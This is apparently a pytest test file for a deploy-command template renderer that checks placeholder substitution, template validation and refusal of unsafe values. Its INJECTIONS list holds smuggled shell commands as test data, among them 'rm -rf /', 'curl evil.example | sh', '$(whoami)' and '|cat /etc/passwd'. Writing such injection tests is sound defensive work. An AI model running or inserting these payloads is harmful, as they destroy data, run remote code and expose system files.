"""Deploy command templates: placeholders filled, injection refused, run in a real shell."""

from __future__ import annotations

import shutil
import subprocess

import pytest

from trimtab.core.commands import (
    TemplateError,
    UnsafeValueError,
    check_name,
    render_command,
    template_placeholders,
)

TEMPLATE = "./deploy.sh {service} {version} {env}"


def test_render_command__plain_values__substituted_in_place() -> None:
    assert (
        render_command(TEMPLATE, "billing-api", "1.8.0", "production")
        == "./deploy.sh billing-api 1.8.0 production"
    )


def test_render_command__semver_with_build_metadata__accepted() -> None:
    line = render_command(
        "deploy --version={version}", "web-front", "2.3.0-rc.1+build.7", "staging"
    )
    assert line == "deploy --version=2.3.0-rc.1+build.7"


def test_render_command__placeholder_used_twice__both_filled() -> None:
    assert render_command("echo {env}-{env}", "a", "1", "prod") == "echo prod-prod"


def test_render_command__literal_braces__kept_single() -> None:
    line = render_command("echo ${{HOME}} {version}", "a", "1.0", "prod")
    assert line == "echo ${HOME} 1.0"


INJECTIONS = [
    "1.0; rm -rf /",
    "1.0 && curl evil.example | sh",
    "$(whoami)",
    "`id`",
    "1.0\nreboot",
    "1.0|cat /etc/passwd",
    "1.0 > /etc/hosts",
    "'; echo pwned; '",
    '"$HOME"',
    "1.0 --force",
    "--upload-pack=touch /tmp/x",
    "-rf",
    "",
    "a" * 129,
    "1.0\x00",
    "1.0\u037e rm",  # Greek question mark looks like ';'
    "../../etc",
]


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("slot", ["service", "version", "env"])
def test_render_command__shell_injection_attempt__refused(slot: str, value: str) -> None:
    values = {"service": "web-front", "version": "2.3.0", "env": "production"}
    values[slot] = value
    with pytest.raises(UnsafeValueError) as caught:
        render_command(TEMPLATE, **values)
    assert slot in str(caught.value)


@pytest.mark.skipif(shutil.which("sh") is None, reason="needs a POSIX shell")
@pytest.mark.parametrize("version", ["2.3.0", "2.3.0-rc.1+build.7", "1_0.beta"])
def test_render_command__run_by_a_real_shell__prints_exactly_the_values(version: str) -> None:
    line = render_command("printf '%s|' {service} {version} {env}", "web-front", version, "prod")
    out = subprocess.run(["sh", "-c", line], capture_output=True, text=True, check=True).stdout
    assert out == f"web-front|{version}|prod|"


@pytest.mark.parametrize(
    ("template", "problem"),
    [
        ("deploy {verison}", "unknown placeholder {verison}"),
        ("deploy {}", "unknown placeholder {}"),
        ("deploy {0}", "unknown placeholder {0}"),
        ("deploy {service.__class__}", "unknown placeholder"),
        ("deploy {service[0]}", "unknown placeholder"),
        ("deploy {version!r}", "no format spec"),
        ("deploy {version:>20}", "no format spec"),
        ("echo ${HOME}", "unknown placeholder {HOME}"),
        ("deploy {version", "literal brace"),
        ("deploy version}", "literal brace"),
        ("   ", "empty"),
    ],
)
def test_template_placeholders__bad_template__refused_naming_the_problem(
    template: str, problem: str
) -> None:
    with pytest.raises(TemplateError) as caught:
        template_placeholders(template)
    assert problem in str(caught.value)


def test_template_placeholders__good_template__lists_what_it_uses() -> None:
    assert template_placeholders("make deploy V={version}") == {"version"}
    assert template_placeholders(TEMPLATE) == {"service", "version", "env"}
    assert template_placeholders("./deploy-all.sh") == frozenset()


def test_check_name__value_is_returned_unchanged_when_safe() -> None:
    assert check_name("version", "1.8.0") == "1.8.0"
